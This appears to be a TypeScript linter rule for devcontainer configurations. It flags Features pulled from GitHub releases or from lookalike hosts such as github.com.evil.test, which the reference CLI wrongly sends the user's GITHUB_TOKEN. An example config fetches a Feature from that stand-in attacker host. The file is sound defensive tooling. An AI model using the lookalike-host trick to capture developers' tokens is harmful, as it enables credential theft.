import type { FeatureUse } from '../model/request.ts';
import { looksLikeGitHub } from '../known/github-token.ts';
import { defineRule, issuesOf, levels } from './define-rule.ts';
import { measured, source } from './shared/cite.ts';

export const featureFromGithubRelease = defineRule({
  id: 'feature-from-github-release',
  title: 'A Feature is fetched from a GitHub release, or from an address that looks like it',
  concern: 'supply-chain',
  severity: 'high',
  levels: levels('error', 'error', 'warn'),
  judges: ['container'],
  reads: ['features'],
  options: {},
  why: 'OWNER/REPOSITORY/ID is a deprecated way to name a Feature. Releases can be replaced, no lockfile covers them, and your GITHUB_TOKEN goes with the request. An address such as https://github.com.evil.test/… gets that token too, since only the beginning of the text is compared.',
  advice: 'Use the Feature from a registry, and run the reference CLI without GITHUB_TOKEN in its environment.',
  cites: [
    source(
      'devcontainers/cli@f683c29f src/spec-configuration/containerFeaturesConfiguration.ts getRequestHeaders, processFeatureIdentifier',
    ),
    measured(
      'a Feature at https://github.com.evil.test/… got the header Authorization: Bearer GITHUB_TOKEN from a plain read-configuration',
      'devcontainer-cli',
    ),
  ],
  references: ['https://containers.dev/implementors/features/#referencing-a-feature'],
  examples: [
    {
      format: 'devcontainer',
      bad: '{ "image": "debian:12", "features": { "acme/features/tool@v1": {} } }',
      good: '{ "image": "debian:12", "features": { "ghcr.io/devcontainers/features/node:1": {} } }',
    },
    {
      format: 'devcontainer',
      bad: '{ "image": "debian:12", "features": { "https://github.com.evil.test/devcontainer-feature-x.tgz": {} } }',
    },
  ],
  check: ({ features }) => issuesOf(features, judge),
});

function judge({ id, source: from, tag }: FeatureUse): string | undefined {
  if (from === 'github-release')
    return `Feature ${id} is fetched from a GitHub release${tag === undefined ? ', the newest one' : ''}: it can be replaced, and nothing locks it`;
  return from === 'url' && looksLikeGitHub(id)
    ? `Feature ${id} is not GitHub, but the reference CLI takes it for GitHub and sends it your GITHUB_TOKEN`
    : undefined;
}
